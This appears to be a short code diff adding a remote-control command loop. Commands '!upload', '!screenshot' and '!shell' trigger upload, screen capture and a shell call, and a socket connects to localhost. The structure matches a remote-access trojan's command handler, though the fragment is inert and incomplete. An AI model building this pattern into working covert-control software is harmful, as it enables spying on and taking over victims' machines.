@@ -1,0 +1,4 @@
+if c == "!upload": up()
+elif c == "!screenshot": shot()
+elif c == "!shell": subprocess.run(["ls"])
+s.connect(("localhost", 1))
